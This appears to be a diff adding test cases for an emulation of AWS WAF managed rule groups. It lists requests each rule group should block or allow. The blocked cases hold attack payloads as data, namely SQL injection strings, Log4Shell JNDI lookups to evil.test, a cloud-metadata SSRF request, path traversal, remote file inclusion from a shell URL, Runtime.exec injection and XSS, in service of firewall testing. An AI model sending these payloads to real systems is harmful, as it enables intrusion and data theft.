@@ -1,9 +1,105 @@
-import { cases } from '../cases.ts';
+import { ask, cases, get, having, post } from '../cases.ts';
 
-export default cases({
-  settings: {},
-  rejects: [
-    { settings: { VendorName: 'AWS' }, notes: ['shape.missing'] },
-    { settings: { VendorName: 'Nobody', Name: 'Nothing' }, notes: ['shape.value'] },
-  ],
-});
+const group = (Name: string, more = {}) => ({ VendorName: 'AWS', Name, ...more });
+const common = 'AWSManagedRulesCommonRuleSet';
+const bad = 'AWSManagedRulesKnownBadInputsRuleSet';
+const sqli = 'AWSManagedRulesSQLiRuleSet';
+const agent = ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)'];
+const browse = (target: string, body = '') =>
+  ask({ method: body === '' ? 'GET' : 'POST', target, headers: agent, body });
+const count = { Count: {} };
+
+export default cases(
+  {
+    settings: group(sqli),
+    matches: [
+      get('/?id=1%27%20or%201=1--'),
+      get("/pets/1'%20union%20select%20password%20from%20users--"),
+      post('{"id":"1\' or 1=1--"}'),
+      post('id=1%27+or+1%3D1--'),
+      having('Cookie', "a=b; id=1' or 1=1--"),
+      having('X-Id', "1' union select password from users--"),
+    ],
+    passes: [
+      get('/?name=O%27Brien'),
+      post('{"text":"select one or two of them; they\'re all good"}'),
+      get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
+    ],
+    rejects: [
+      { settings: { VendorName: 'AWS' }, notes: ['shape.missing'] },
+      { settings: { VendorName: 'Nobody', Name: 'Nothing' }, notes: ['shape.value'] },
+      { settings: group(sqli, { Version: 'Version_9.9' }), notes: ['shape.value'] },
+      {
+        settings: group(sqli, { RuleActionOverrides: [{ Name: 'SQLi_PATH', ActionToUse: count }] }),
+        notes: ['shape.value'],
+      },
+      { settings: group(sqli, { ManagedRuleGroupConfigs: [{ LoginPath: '/' }] }), notes: ['shape.value'] },
+    ],
+  },
+  {
+    settings: group(common),
+    matches: [
+      get('/'),
+      ask({ headers: ['User-Agent', 'sqlmap/1.8#stable (https://sqlmap.org)'] }),
+      browse(`/?a=${'b'.repeat(2_047)}`),
+      browse(`/${'a'.repeat(1_024)}`),
+      browse('/', 'a'.repeat(8_193)),
+      browse('/?url=http://169.254.169.254/latest/meta-data/'),
+      browse('/files/..%2f..%2f..%2fetc%2fpasswd'),
+      browse('/backup.sql'),
+      browse('/?file=debug.log'),
+      browse('/?page=http://198.51.100.7/shell.txt?'),
+      browse('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
+      browse('/', '{"bio":"<img src=x onerror=alert(1)>"}'),
+    ],
+    passes: [
+      browse('/'),
+      browse(`/?a=${'b'.repeat(2_046)}`),
+      browse('/', 'a'.repeat(8_192)),
+      browse('/users/jane@example.com'),
+      browse('/?site=example.com&file=report.pdf'),
+      browse('/?next=https://example.com/a?b=c'),
+      browse('/', '{"text":"5 < 6 && 7 > 3"}'),
+    ],
+  },
+  {
+    settings: group(bad),
+    matches: [
+      get('/.git/config'),
+      get('/WEB-INF/web.xml'),
+      get('/actuator/heapdump'),
+      ask({ method: 'PROPFIND' }),
+      get('/?x=$%7Bjndi:ldap://evil.test/a%7D'),
+      having('X-Api-Version', '${jndi:${lower:l}dap://evil.test/a}'),
+      having('Cookie', 'a=${jndi:ldap://evil.test/a}'),
+      post('{"x":"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="}'),
+      having('X-Route', 'T(java.lang.Runtime).getRuntime().exec("whoami")'),
+      get('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
+      post('{"then":"$1:__proto__:then","status":"resolved_model"}'),
+    ],
+    passes: [get('/'), get('/git/config'), get('/?class=a&module=b'), post('{"a":"${name}"}')],
+  },
+  {
+    settings: group(common, {
+      Version: 'Version_1.4',
+      RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: count }],
+      ExcludedRules: [{ Name: 'SizeRestrictions_BODY' }],
+    }),
+    matches: [get('/?q=%3Cscript%3Ealert(1)%3C/script%3E')],
+    passes: [get('/'), post('a'.repeat(9_000))],
+  },
+  {
+    settings: group(sqli, {
+      ScopeDownStatement: {
+        ByteMatchStatement: {
+          SearchString: 'L2E=',
+          FieldToMatch: { UriPath: {} },
+          TextTransformations: [{ Priority: 0, Type: 'NONE' }],
+          PositionalConstraint: 'STARTS_WITH',
+        },
+      },
+    }),
+    matches: [get('/a?id=1%27%20or%201=1--')],
+    passes: [get('/b?id=1%27%20or%201=1--')],
+  },
+);
